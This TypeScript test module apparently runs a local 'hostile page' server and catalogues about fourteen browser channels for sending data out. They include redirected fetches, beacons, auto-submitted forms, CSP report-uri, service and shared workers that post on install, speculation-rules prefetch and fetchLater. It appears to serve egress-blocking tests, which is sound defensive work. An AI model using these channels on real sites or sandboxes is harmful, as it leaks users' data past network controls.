// The server of a hostile page, which does what its page asks for.

import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Ask } from "./ways";

/** A worker of any kind that sends at its start. */
const worker = (ask: string) => `
const { url, body, get } = JSON.parse(${JSON.stringify(ask)});
const sent = [fetch(url, { method: "POST", body, mode: "no-cors" }), fetch(get, { mode: "no-cors" })];
self.oninstall = (event) => event.waitUntil(Promise.allSettled(sent));
`;

export class Attacker {
  port = 0;
  private readonly server = createServer((request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? "/", "http://localhost");
    const to = searchParams.get("to") ?? "";
    if (pathname === "/redirect") {
      response.writeHead(Number(searchParams.get("status")), { location: to }).end();
    } else if (pathname === "/worker.js") {
      response.setHeader("content-type", "text/javascript").end(worker(searchParams.get("ask") ?? ""));
    } else {
      const policy = `img-src 'none'; report-uri ${to}`;
      response.writeHead(200, {
        "content-type": "text/html; charset=utf-8",
        ...(pathname === "/report" ? { "content-security-policy": policy } : {}),
        ...(pathname === "/refresh" ? { refresh: `0; url=${to}` } : {}),
      });
      response.end('<!doctype html><title>Hostile</title><body><img src="/nothing">');
    }
  });

  static async open(): Promise<Attacker> {
    const attacker = new Attacker();
    await once(attacker.server.listen(0, "127.0.0.1"), "listening");
    attacker.port = (attacker.server.address() as AddressInfo).port;
    return attacker;
  }

  close(): void {
    this.server.closeAllConnections();
    this.server.close();
  }
}

/** What takes a server of its own, beside what any page can do. */
export const served: Record<string, (ask: Ask) => unknown> = {
  "fetch redirected by 307": async ({ url, body }) =>
    (await fetch(`/redirect?status=307&to=${encodeURIComponent(url)}`, { method: "POST", body })).text(),
  "fetch no-cors redirected by 308": async ({ url, body }) => {
    const init: RequestInit = { method: "POST", body, mode: "no-cors" };
    return (await fetch(`/redirect?status=308&to=${encodeURIComponent(url)}`, init)).text();
  },
  "fetch get redirected by 302": async ({ get }) =>
    (await fetch(`/redirect?status=302&to=${encodeURIComponent(get)}`)).text(),
  "img redirected by 301": ({ get }) => {
    new Image().src = `/redirect?status=301&to=${encodeURIComponent(get)}`;
  },
  "beacon redirected by 307": ({ url, body }) =>
    void navigator.sendBeacon(`/redirect?status=307&to=${encodeURIComponent(url)}`, body),
  "form redirected by 307": ({ url }) => {
    const to = encodeURIComponent(url);
    const form = `<form method="post" target="_blank" action="/redirect?status=307&to=${to}"></form>`;
    document.body.insertAdjacentHTML("beforeend", form);
    (document.body.lastElementChild as HTMLFormElement).submit();
  },
  "new tab redirected by 302": ({ get }) =>
    void window.open(`/redirect?status=302&to=${encodeURIComponent(get)}`),
  "refresh in a new tab": ({ get }) => void window.open(`/refresh?to=${encodeURIComponent(get)}`),
  "report of a policy": ({ url }) => void window.open(`/report?to=${encodeURIComponent(url)}`),
  "shared worker": (ask) =>
    void new SharedWorker(`/worker.js?ask=${encodeURIComponent(JSON.stringify(ask))}`),
};

/** What a browser lets only those pages do that it takes for secure, to a server that it takes for secure. */
export const secure: Record<string, (ask: Ask) => unknown> = {
  "speculation rules, prefetch": ({ get }) => {
    const rules = document.createElement("script");
    rules.type = "speculationrules";
    rules.textContent = JSON.stringify({ prefetch: [{ urls: [get], eagerness: "immediate" }] });
    document.body.append(rules);
  },
  "speculation rules, prerender": ({ get }) => {
    const rules = document.createElement("script");
    rules.type = "speculationrules";
    rules.textContent = JSON.stringify({ prerender: [{ urls: [get], eagerness: "immediate" }] });
    document.body.append(rules);
  },
  "service worker": async (ask) => {
    const code = `/worker.js?ask=${encodeURIComponent(JSON.stringify(ask))}`;
    await navigator.serviceWorker.register(code, { scope: "/nowhere" });
  },
  fetchLater: ({ url, body }) => {
    type Later = (url: string, init: RequestInit & { activateAfter: number }) => unknown;
    (window as unknown as { fetchLater: Later }).fetchLater(url, { method: "POST", body, activateAfter: 0 });
  },
};
